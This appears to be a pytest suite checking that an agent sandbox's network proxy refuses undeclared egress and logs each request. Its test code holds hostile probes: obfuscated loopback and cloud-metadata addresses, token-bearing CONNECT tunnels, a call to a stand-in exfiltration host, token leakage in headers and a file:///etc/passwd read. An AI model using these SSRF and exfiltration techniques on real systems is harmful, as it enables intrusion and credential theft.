"""What agents reach of the network, from inside real sandboxes."""

import asyncio
from contextlib import AsyncExitStack

import pytest

from agent_platform.broker import egress, forwarding
from agent_platform.broker.forwarding import SMALL_BYTES, Forwarded
from agent_platform.services import runs

pytestmark = pytest.mark.sandbox
URL_INPUT = {"type": "object", "properties": {"url": {"type": "string", "format": "uri", "title": "URL"}}}


def network(*ports, methods=("GET", "HEAD"), host="${input.url}"):
    return {"network": [{"host": host, "ports": list(ports), "methods": list(methods), "why": "Reads it."}]}


def asked(upstream, path="/", **more):
    return {
        "permissions": network(upstream.server_port, **more),
        "input_schema": URL_INPUT,
        "input": {"url": f"http://127.0.0.1:{upstream.server_port}{path}"},
    }


def test_a_declared_host_answers_and_the_request_is_logged(stage, upstream):
    code = """
def go(run):
    answer = run.http.get(run.input["url"], headers={"X-Mine": "1"})
    return {"status": answer.status, "text": answer.text, "hop": answer.headers.get("x-hop")}
"""
    done = stage.run(code, **asked(upstream, "/page?q=1"))
    assert (done.state, done.result) == ("succeeded", {"status": 200, "text": "hello", "hop": None}), stage.log(done)
    method, path, headers, _ = upstream.seen[0]
    assert (method, path, headers["X-Mine"]) == ("GET", "/page?q=1", "1")
    assert "Authorization" not in headers
    (row,) = stage.egress(done)
    assert (row.method, row.host, row.port, row.status) == ("GET", "127.0.0.1", upstream.server_port, 200)
    assert (row.received_bytes, row.refused, row.failed, len(row.path_hash)) == (5, None, None, 16)


def test_ordinary_clients_work_through_the_proxy(stage, upstream):
    code = """
import os, urllib.request
def go(run):
    with urllib.request.urlopen(run.input["url"], timeout=10) as answer:
        return {"text": answer.read().decode(), "proxy": os.environ["HTTPS_PROXY"].partition(":apr_")[0]}
"""
    done = stage.run(code, **asked(upstream, "/plain"))
    assert done.result == {"text": "hello", "proxy": "http://run"}, stage.log(done)
    assert [row.method for row in stage.egress(done)] == ["GET"]
    assert "Proxy-Authorization" not in upstream.seen[0][2]


HOSTILE = """
import os, socket, urllib.request
from agent_platform.sdk import NotPermitted, UpstreamError

def attempt(act):
    try:
        return ["ok", act()]
    except NotPermitted as error:
        return ["not permitted", error.text]
    except UpstreamError as error:
        return ["upstream", error.text]
    except Exception as error:
        return [type(error).__name__, str(error)]

def go(run):
    port = run.input["port"]
    hosts = run.input["hosts"]
    found = {host: attempt(lambda: run.http.get(f"http://{host}:{port}/").status) for host in hosts}
    proxy = os.environ["HTTPS_PROXY"].rpartition(":")
    def tunnel(host):
        with socket.create_connection(("127.0.0.1", int(proxy[2])), timeout=20) as line:
            import base64
            secret = base64.b64encode(("run:" + os.environ["AP_RUN_TOKEN"]).encode()).decode()
            line.sendall(f"CONNECT {host}:{port} HTTP/1.1\\r\\nProxy-Authorization: Basic {secret}\\r\\n\\r\\n".encode())
            return line.recv(4096).decode().splitlines()[0]
    tunnels = {host: attempt(lambda: tunnel(host)) for host in hosts}
    return {"http": found, "tunnels": tunnels}
"""
INSIDE = ["127.0.0.1", "localhost", "[::1]", "0.0.0.0", "127.1", "2130706433", "0x7f000001", "[::ffff:127.0.0.1]",
          "169.254.169.254", "10.0.0.1", "192.168.0.1"]  # fmt: skip


@pytest.mark.sec
def test_no_address_inside_is_ever_connected_to_however_it_is_written(stage, hidden):
    """S-19, G13: any host is declared, the operator opened the port, and still nothing arrives."""
    port = hidden.server_port
    done = stage.run(
        HOSTILE,
        permissions=network(port, host="*"),
        input_schema={"type": "object", "properties": {"port": {"type": "integer"}, "hosts": {"type": "array"}}},
        input={"port": port, "hosts": INSIDE},
    )
    assert done.state == "succeeded", (done.failure_message, stage.log(done))
    assert {answer[0] for answer in done.result["http"].values()} <= {"not permitted", "upstream"}, done.result
    assert all(" 200 " not in answer[1] for answer in done.result["tunnels"].values()), done.result
    assert hidden.connections == 0
    rows = stage.egress(done)
    assert len(rows) == 2 * len(INSIDE)
    assert {row.refused or row.failed for row in rows} <= {"address", "unreachable"}
    assert [row.refused for row in rows if row.host in {"127.0.0.1", "localhost", "169.254.169.254"}] == ["address"] * 6


@pytest.mark.sec
def test_what_the_manifest_does_not_declare_is_refused_and_written_down(stage, upstream, hidden):
    code = (
        HOSTILE.replace("def go(run):", "def unused(run):")
        + f"""
def go(run):
    url = run.input["url"]
    http = run.http
    token = os.environ["AP_RUN_TOKEN"]
    return {{
        "host": attempt(lambda: http.get("https://exfiltrate.example/?data=1").status),
        "port": attempt(lambda: http.get("http://127.0.0.1:{hidden.server_port}/").status),
        "method": attempt(lambda: http.post(url, "all the data").status),
        "token": attempt(lambda: http.get(url, headers={{"X-Leak": token}}).status),
        "scheme": attempt(lambda: http.get("file:///etc/passwd").status),
        "password": attempt(lambda: http.get(url.replace("http://", "http://me:pw@")).status),
        "redirect out": attempt(lambda: http.get(url + "to/http://127.0.0.1:{hidden.server_port}/").status),
        "redirect round": attempt(lambda: http.get(url + "loop").status),
        "redirect in": attempt(lambda: http.get(url + "to/" + url + "end", headers={{"Authorization": "Bearer mine"}}).status),
    }}
"""
    )
    done = stage.run(code, **asked(upstream))
    said = {name: answer[0] for name, answer in done.result.items()}
    assert said == dict.fromkeys(
        ["host", "port", "method", "token", "scheme", "password", "redirect out"], "not permitted"
    ) | {"redirect round": "ok", "redirect in": "ok"}, done.result
    assert hidden.connections == 0
    refused = [row.refused for row in stage.egress(done) if row.refused]
    assert refused == ["host", "port", "method", "token", "port"]
    assert done.result["redirect round"] == ["ok", 307]
    assert len([path for _, path, _, _ in upstream.seen if path == "/loop"]) == 4
    last_two = [headers for _, path, headers, _ in upstream.seen if path.endswith("end")]
    assert [headers.get("Authorization") for headers in last_two] == ["Bearer mine", None]


def test_bodies_statuses_and_large_answers(stage, upstream):
    code = """
from agent_platform.sdk import UpstreamError
def go(run):
    url = run.input["url"]
    sent = run.http.request("PUT", url + "echo", body=bytes(range(256)))
    refused = run.http.get(url + "secret")
    try:
        run.http.get(url + "big")
        big = "read"
    except UpstreamError as error:
        big = error.text
    with run.http.request("GET", url + "big", stream=True) as answer:
        size = sum(len(piece) for piece in answer.pieces())
    return {"echo": list(sent.content) == list(range(256)), "status": sent.status, "extra": sent.headers["x-extra"],
            "refused": refused.status, "big": big, "streamed": size}
"""
    done = stage.run(code, **asked(upstream, methods=("GET", "PUT")))
    assert done.result["echo"], (done.result, stage.log(done))
    assert (done.result["status"], done.result["extra"], done.result["refused"]) == (201, "yes", 401)
    assert "more than 33,554,432 bytes" in done.result["big"]
    assert done.result["streamed"] == 40 * 1_048_576
    assert [(row.status, row.failed) for row in stage.egress(done)] == [
        (201, None), (401, None), (200, "too_large"), (200, None)
    ]  # fmt: skip


def test_a_stream_that_breaks_off_says_so(stage, upstream):
    code = """
from agent_platform.sdk import UpstreamError
def go(run):
    try:
        with run.http.request("GET", run.input["url"], stream=True) as answer:
            return {"read": sum(len(piece) for piece in answer.pieces())}
    except UpstreamError as error:
        return {"error": error.text}
"""
    done = stage.run(code, **asked(upstream, "/torn"))
    assert "broke" in done.result["error"], done.result
    assert [(row.status, row.failed) for row in stage.egress(done)] == [(200, "broken")]


def test_a_large_answer_without_room_is_no_reason_to_ask_again(monkeypatch):
    """The far side has been asked: whatever the client hears must not be what it repeats by itself."""
    answer = Forwarded(200, [], "http://a.example/", pieces(2 * SMALL_BYTES))
    monkeypatch.setattr(forwarding, "MOST_LARGE_AT_ONCE", 0)
    monkeypatch.setattr(forwarding, "TURN_SECONDS", 0.01)

    async def gather():
        async with AsyncExitStack() as held:
            await egress._gathered(answer, held)

    with pytest.raises(runs.UpstreamFailed) as refused:
        asyncio.run(gather())
    assert refused.value.status not in {401, 429, 503}
    assert "The request was made" in refused.value.sentence


async def pieces(size):
    yield b"x" * size
